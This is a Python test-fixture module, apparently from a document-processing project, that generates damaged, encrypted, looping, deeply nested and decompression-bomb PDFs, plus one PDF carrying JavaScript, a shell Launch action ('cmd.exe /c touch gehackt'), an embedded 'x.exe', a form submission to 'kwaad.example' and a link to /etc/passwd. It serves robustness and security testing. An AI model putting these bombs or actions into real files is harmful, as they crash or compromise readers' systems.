"""PDFs that are damaged, locked, endless or up to something; parts of ``make_bad_files``."""

import io
import zlib
from collections.abc import Callable, Mapping
from itertools import count

import pikepdf

A4 = "/MediaBox [0 0 595 842]"
TEXT = b"BT /F1 14 Tf 72 760 Td (Stuk voor de vergadering) Tj ET"
GIGABYTE = 2**30


class Schrijver:
    """Collects numbered objects and writes a PDF with a plain cross-reference table."""

    def __init__(self) -> None:
        self.objects: dict[int, bytes] = {}

    def put(self, number: int, content: str) -> None:
        self.objects[number] = content.encode("latin-1")

    def put_stream(self, number: int, data: bytes, entries: str = "") -> None:
        head = f"<< /Length {len(data)} {entries} >>\nstream\n".encode("latin-1")
        self.objects[number] = head + data + b"\nendstream"

    def write(self) -> bytes:
        """Return the file; object 1 is the catalogue (ISO 32000-1, 7.5)."""
        out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
        for number, content in sorted(self.objects.items()):
            places[number] = len(out)
            out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
        start = len(out)
        size = max(places) + 1
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            used = number in places
            out += b"%010d %05d %c \n" % (places.get(number, 0), 0 if used else 65535, b"fn"[used])
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
        return bytes(out)


def one_page(catalogue: str = "", page: str = "") -> Schrijver:
    """Return a document of one page with text; objects from 10 up are free."""
    pdf = Schrijver()
    pdf.put(1, f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>")
    pdf.put(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    resources = "/Resources << /Font << /F1 5 0 R >> >>"
    pdf.put(3, f"<< /Type /Page /Parent 2 0 R {A4} {resources} /Contents 4 0 R {page} >>")
    pdf.put_stream(4, TEXT)
    pdf.put(5, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    return pdf


def truncated() -> bytes:
    """Return the first half of a file: no cross-reference table, half a page."""
    pdf = one_page()
    pdf.put_stream(4, TEXT * 40)
    whole = pdf.write()
    return whole[: whole.index(b"4 0 obj") + 700]


def damaged_xref() -> bytes:
    """Return a file whose table points nowhere; what it holds is whole."""
    whole = one_page().write()
    table = whole.index(b"xref\n0")
    damaged = whole[table:].replace(b"00000 n", b"00000 x")
    return whole[:table] + damaged.replace(b"startxref\n", b"startxref\n9")


def locked(user: str, owner: str) -> bytes:
    """Return a file under passwords; RC4, because it has no random start."""
    out = io.BytesIO()
    encryption = pikepdf.Encryption(user=user, owner=owner, R=3, aes=False, metadata=False)
    with pikepdf.open(io.BytesIO(one_page().write())) as pdf:
        pdf.save(out, encryption=encryption, static_id=True)
    return out.getvalue()


def page_loop() -> bytes:
    """Return a page tree of which a node is its own grandchild."""
    pdf = one_page()
    pdf.put(2, "<< /Type /Pages /Kids [3 0 R 10 0 R] /Count 3 >>")
    pdf.put(10, "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 2 >>")
    return pdf.write()


def outline_loop() -> bytes:
    """Return bookmarks whose last is followed by the first, which is also its own child."""
    pdf = one_page("/Outlines 10 0 R")
    pdf.put(10, "<< /Type /Outlines /First 11 0 R /Last 12 0 R /Count 2 >>")
    pdf.put(11, "<< /Title (Een) /Parent 10 0 R /Next 12 0 R /First 11 0 R /Dest [3 0 R /Fit] >>")
    pdf.put(12, "<< /Title (Twee) /Parent 10 0 R /Next 11 0 R /First 10 0 R /Dest [3 0 R /Fit] >>")
    return pdf.write()


def name_loop() -> bytes:
    """Return a tree of named destinations whose leaf leads back to its root."""
    link = "/Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /Dest (weg) >>]"
    pdf = one_page("/Names << /Dests 10 0 R >>", link)
    pdf.put(10, "<< /Kids [11 0 R 11 0 R] >>")
    pdf.put(11, "<< /Limits [(a) (z)] /Kids [10 0 R 12 0 R] >>")
    pdf.put(12, "<< /Limits [(a) (b)] /Names [(a) 12 0 R (b) [3 0 R /Fit]] /Kids [12 0 R] >>")
    return pdf.write()


def structure_loop() -> bytes:
    """Return tags of which a paragraph contains the section that it is in."""
    pdf = one_page(TAGGED, "/StructParents 0")
    pdf.put_stream(4, b"/P << /MCID 0 >> BDC " + TEXT + b" EMC")
    pdf.put(10, f"<< /Type /StructTreeRoot /K 11 0 R {PARENTS} /RoleMap << /Kop /H1 /H1 /Kop >> >>")
    pdf.put(11, "<< /Type /StructElem /S /Sect /P 10 0 R /K [12 0 R 11 0 R] >>")
    pdf.put(12, "<< /Type /StructElem /S /Kop /P 11 0 R /Pg 3 0 R /K [0 11 0 R 12 0 R] >>")
    return pdf.write()


TAGGED = "/MarkInfo << /Marked true >> /StructTreeRoot 10 0 R"
PARENTS = "/ParentTree << /Nums [0 [12 0 R]] /Kids [10 0 R] >> /ParentTreeNextKey 1"


def deep_structure(levels: int) -> bytes:
    """Return tags in tags, ``levels`` deep, packed in one object stream."""
    inside = 400  # levels within one object: readers allow no more than some hundreds
    first, objects = 20, levels // inside
    texts = [_nested(inside, f"{number + 1} 0 R") for number in range(first, first + objects)]
    texts[-1] = _nested(inside, "<< /S /P /Pg 3 0 R /K 0 >>")
    pdf = one_page(TAGGED, "/StructParents 0")
    pdf.put_stream(4, b"/P << /MCID 0 >> BDC " + TEXT + b" EMC")
    pdf.put(10, f"<< /Type /StructTreeRoot /K {first} 0 R {PARENTS} /RoleMap << /H1 /H2 >> >>")
    pdf.put(12, "<< /Type /StructElem /S /P /P 10 0 R /Pg 3 0 R /K 0 >>")
    return _with_object_stream(pdf, dict(zip(count(first), texts, strict=False)))


def _nested(levels: int, inner: str) -> str:
    return "<</S/Kop/K" * levels + " " + inner + ">>" * levels


def _with_object_stream(
    pdf: Schrijver,
    packed: Mapping[int, str],
    pack: Callable[[bytes], bytes] = zlib.compress,
    filters: str = "/Filter /FlateDecode",
) -> bytes:
    """Return a file whose table is a stream, with ``packed`` in object stream 15 (7.5.7, 7.5.8)."""
    heads, body = [], ""
    for number, text in packed.items():
        heads.append(f"{number} {len(body)}")
        body += f"{text} "
    head = " ".join(heads) + " "
    data = pack((head + body).encode("latin-1"))
    pdf.put_stream(15, data, f"/Type /ObjStm /N {len(packed)} /First {len(head)} {filters}")
    return _write_with_table_stream(pdf, list(packed))


def _write_with_table_stream(pdf: Schrijver, packed: list[int]) -> bytes:
    out, rows = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {0: (0, 0, 65535)}
    for number, content in sorted(pdf.objects.items()):
        rows[number] = (1, len(out), 0)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    rows |= {number: (2, 15, index) for index, number in enumerate(packed)}
    size, start = max(rows) + 2, len(out)
    rows[size - 1] = (1, start, 0)
    table = b"".join(
        kind.to_bytes(1, "big") + place.to_bytes(4, "big") + last.to_bytes(2, "big")
        for kind, place, last in (rows.get(number, (0, 0, 0)) for number in range(size))
    )
    stream = Schrijver()
    entries = f"/Type /XRef /Size {size} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode"
    stream.put_stream(size - 1, zlib.compress(table), entries)
    out += b"%d 0 obj\n" % (size - 1) + stream.objects[size - 1] + b"\nendobj\n"
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


# -- bombs ---------------------------------------------------------------------------------------

TWICE = "/Filter [/FlateDecode /FlateDecode]"


def squeeze(unit: bytes, size: int, start: bytes = b"") -> bytes:
    """Return ``start`` and then ``unit`` over and over, ``size`` bytes, compressed twice."""
    inner, outer = zlib.compressobj(9), zlib.compressobj(9)
    block = unit * (2**20 // len(unit))
    out = [outer.compress(inner.compress(start))]
    out += [outer.compress(inner.compress(block)) for _ in range(size // len(block))]
    out += [outer.compress(inner.flush()), outer.flush()]
    return b"".join(out)


def bomb_in_page() -> bytes:
    """Return a page whose drawing unpacks to 2 GB."""
    pdf = one_page()
    pdf.put_stream(4, squeeze(b"q Q ", 2 * GIGABYTE, TEXT), TWICE)
    return pdf.write()


def bomb_in_tagged_page() -> bytes:
    """Return tags that leave out a page whose drawing unpacks to 2 GB: it has to be read."""
    pdf = one_page(TAGGED)
    pdf.put_stream(4, squeeze(b"q Q ", 2 * GIGABYTE), TWICE)
    pdf.put(10, f"<< /Type /StructTreeRoot /K 12 0 R {PARENTS} >>")
    pdf.put(12, "<< /Type /StructElem /S /P /P 10 0 R /Pg 3 0 R /K 0 >>")
    return pdf.write()


def bomb_in_objects() -> bytes:
    """Return a file whose font lies in an object stream of 2 GB."""
    pdf = one_page()
    font = pdf.objects.pop(5).decode("latin-1")
    return _with_object_stream(
        pdf, {5: font}, lambda data: squeeze(b" " * 16, 2 * GIGABYTE, data), TWICE
    )


# -- actions -------------------------------------------------------------------------------------


def with_actions() -> bytes:
    """Return a file that runs a script, starts a program, sends data and carries a file along."""
    script = "<< /S /JavaScript /JS (app.alert\\('hallo'\\)) >>"
    pdf = one_page(
        f"/OpenAction {script} /AA << /WC {script} >> "
        f"/Names << /JavaScript << /Names [(s) {script}] >> "
        "/EmbeddedFiles << /Names [(x.exe) 11 0 R] >> >>",
        f"/AA << /O {script} >> /Annots [12 0 R 13 0 R 14 0 R 16 0 R]",
    )
    pdf.put_stream(10, b"MZ", "/Type /EmbeddedFile")
    pdf.put(11, "<< /Type /Filespec /F (x.exe) /EF << /F 10 0 R >> >>")
    launch = "/A << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c touch gehackt) >> >>"
    pdf.put(12, f"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] {launch} >>")
    pdf.put(13, "<< /Type /Annot /Subtype /FileAttachment /Rect [72 660 92 680] /FS 11 0 R >>")
    submit = "/A << /S /SubmitForm /F (https://kwaad.example/) >>"
    pdf.put(14, f"<< /Type /Annot /Subtype /Link /Rect [72 620 200 640] {submit} >>")
    elsewhere = "/A << /S /GoToR /F (file:///etc/passwd) /D [0 /Fit] >>"
    pdf.put(16, f"<< /Type /Annot /Subtype /Link /Rect [72 580 200 600] {elsewhere} >>")
    return pdf.write()


PDFS: Mapping[str, Callable[[], bytes]] = {
    "pdf-afgekapt": truncated,
    "pdf-verwijzingen-stuk": damaged_xref,
    "pdf-versleuteld": lambda: locked("geheim", "baas"),
    "pdf-eigenaarswachtwoord": lambda: locked("", "baas"),
    "pdf-lus-paginas": page_loop,
    "pdf-lus-bladwijzers": outline_loop,
    "pdf-lus-namen": name_loop,
    "pdf-lus-labels": structure_loop,
    "pdf-labels-diep": lambda: deep_structure(10_000),
    "pdf-labels-bodemloos": lambda: deep_structure(400_000),
    "pdf-bom-pagina": bomb_in_page,
    "pdf-bom-labels": bomb_in_tagged_page,
    "pdf-bom-objecten": bomb_in_objects,
    "pdf-acties": with_actions,
}
"""Case → what makes its ``stuk.pdf``."""
